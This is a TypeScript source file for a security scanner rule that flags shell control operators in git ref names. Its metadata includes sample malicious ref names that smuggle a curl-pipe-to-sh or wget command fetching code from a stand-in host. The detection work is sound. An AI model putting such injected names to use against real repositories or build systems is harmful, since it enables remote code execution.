// CG-REF-004: shell control operators ; | & < > in a ref name.
import type {RuleMeta} from '../../report/rule-meta.js'
import type {Hit, NameRule} from '../types.js'
import {CONTROL} from './patterns.js'

export const meta: RuleMeta = {
  id: 'CG-REF-004',
  title: 'Shell control operator in a ref name',
  severity: 'high',
  description: 'A ; | & < or > in a ref name ends the current command, pipes, backgrounds or redirects when the name is expanded unquoted in a shell. git accepts all of them.',
  remediation: 'rename or delete the ref; quote every expansion of ref names',
  example: {bad: 'fix;curl evil.example|sh', good: 'fix/parser'},
  examples: {
    flagged: ['fix;curl evil.example|sh', `main&&wget\${IFS}evil.example/x`],
    clean: ['fix/parser', 'feature/a-and-b'],
  },
}

export const rule: NameRule = {
  meta,
  check(name: string): Hit[] {
    const found = [...new Set(name.match(/[;|&<>]/g) ?? [])]
    return CONTROL.test(name) ? [{message: `shell control operator(s) ${found.map((char) => `"${char}"`).join(' ')} in the name`}] : []
  },
}
